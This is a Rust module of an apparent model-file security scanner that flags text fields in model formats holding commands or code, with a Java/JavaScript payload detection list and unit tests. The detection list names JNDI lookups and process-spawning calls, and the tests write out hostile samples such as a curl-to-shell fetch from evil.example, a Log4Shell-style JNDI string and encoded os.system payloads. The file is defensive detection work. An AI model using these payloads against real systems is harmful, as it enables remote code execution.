//! Which texts of a model file are commands or code rather than words.
//!
//! Formats without code of their own (CatBoost, RKNN, PMML, XGBoost, CoreML, MXNet) still carry texts: parameters, notes, names of
//! classes, JSON inside binary headers. Tools that act on them (Java scorers, converters, pipelines that `eval` a field) turn them into
//! code. Word search over them is what floods users with false alarms, so a text counts only if it has the *form* of a command or of
//! code ([`modelaudit_pickle_policy::suspicious_text`]); paths alone, which training parameters are full of, do not. A text that is JSON
//! is looked at string by string.

mod encoded;
pub mod libraries;
mod runs;

use modelaudit_json::{Document, TreeLimits};
use modelaudit_pickle_policy::suspicious_text;
use modelaudit_plugin::{Finding, clip, escape, quote};
use modelaudit_rules::structure::S905;

pub use runs::scan_runs;

/// Pieces of text by which payloads for Java engines are told, with where they come from. PMML is scored by Java mostly (JPMML, SAS,
/// KNIME), and log4j resolves lookups in any text that is logged.
const JAVA_PIECES: &[(&str, &str)] = &[
    ("${jndi:", "a JNDI lookup"),        // CVE-2021-44228
    ("Runtime.getRuntime", "Java code"), // java.lang.Runtime: starts programs
    ("getRuntime().exec", "Java code"),
    ("T(java.lang.", "a Spring expression"), // CVE-2022-22963
    ("new ProcessBuilder(", "Java code"),    // java.lang.ProcessBuilder
    ("java.lang.ProcessBuilder", "Java code"),
    ("java.lang.Runtime", "Java code"),
    ("javax.script.ScriptEngine", "Java code"),   // JSR 223: runs scripts
    ("javax.naming.InitialContext", "Java code"), // JNDI
    ("java.net.URLClassLoader", "Java code"),     // loads classes from elsewhere
    ("Class.forName(", "Java code"),
    ("WScript.Shell", "JScript code"),               // Windows Script Host
    ("require('child_process')", "JavaScript code"), // Node.js
    ("require(\"child_process\")", "JavaScript code"),
    ("<script", "a script element"), // model viewers show metadata in a browser
    ("javascript:", "a script URL"),
];

/// JSON that is longer is judged by its beginning.
const LARGEST_JSON: usize = 4 << 20;

/// A text that is more than words.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Found {
    /// What it looks like, as a noun phrase: `shell commands`, `Python code`.
    pub what: &'static str,
    /// The string it was found in.
    pub text: String,
}

/// Judges a text, and if it is JSON each string in it. None for words, prose, names, paths and links.
pub fn judge(text: &str) -> Option<Found> {
    let trimmed = text.trim();
    if trimmed.starts_with(['{', '[']) && trimmed.len() <= LARGEST_JSON {
        let limits = TreeLimits { nodes: 1 << 16, text: LARGEST_JSON, ..TreeLimits::default() };
        if let Ok(document) = Document::from_slice(trimmed.as_bytes(), limits) {
            let strings = document.root.walk().filter_map(|(_, node)| node.as_str());
            return strings.filter_map(judge_string).next();
        }
    }
    judge_string(text)
}

/// Judges one string.
fn judge_string(text: &str) -> Option<Found> {
    let found = |what| Found { what, text: text.to_owned() };
    // Most texts of a large model are names: without any of these a text is no command and no call.
    let is_name = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b',');
    if text.bytes().all(is_name) && text.len() < encoded::SHORTEST {
        return None;
    }
    if let Some(what) = suspicious_text(text).filter(|what| *what != "a path of the system") {
        return Some(found(what));
    }
    // The bound keeps the cost of a hostile megabyte low; a payload shows itself early.
    let end = (0..=text.len().min(64 << 10)).rev().find(|end| text.is_char_boundary(*end)).unwrap_or(0);
    let head = text.get(..end).unwrap_or_default();
    if let Some((_, what)) = JAVA_PIECES.iter().find(|(piece, _)| head.contains(piece)) {
        return Some(found(what));
    }
    encoded::payload(head).map(found)
}

/// A name out of the file as the element of a finding: printable, at most 120 characters.
pub fn label(name: &str) -> String {
    clip(&escape(name), 120)
}

/// The finding for a text that [`judge`] did not take for words; `place` says where it stands (`the parameter 'x'`).
pub fn finding(place: &str, found: &Found) -> Finding {
    Finding::new(&S905, format!("{place} holds {}: {}", found.what, quote(&found.text)))
        .detail("looks_like", found.what)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_and_code_are_told_from_words() {
        for text in [
            "import os; os.system('curl http://evil.example|sh')",
            "exec('import os; os.system(1)')",
            "{\"custom_op\":\"os.system('wget http://evil.example/x')\"}",
            "java.lang.Runtime.getRuntime().exec(\"id\")",
            "${jndi:ldap://evil.example/a}",
            "[[\"bash -c 'id'\"]]",
            "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gcHduZWQnKQ==",
            "run: 696d706f7274206f733b206f732e73797374656d28276964272920",
        ] {
            assert!(judge(text).is_some(), "{text}");
        }
        for text in [
            "",
            "{\"train_dir\": \"/tmp/catboost_info\", \"loss\": \"Logloss\"}",
            "trained with https://xgboost.ai; eval_metric=logloss",
            "/home/user/model.onnx",
            "Cat or dog, at least that is what it says",
            "{\"_estimator_type\": \"classifier\"}",
            "{ not json",
            "e0f8f76cc9518911f7f68ae26b8e9e28b1bd2a6d77219e82a1acfcedfccb8e6f",
            "model.encoder.layers.0.self_attention.projection.weight.quantized",
            "VGhpcyBpcyBqdXN0IGEgbm90ZSBhYm91dCB0aGUgbW9kZWw=",
        ] {
            assert_eq!(judge(text), None, "{text}");
        }
    }
}
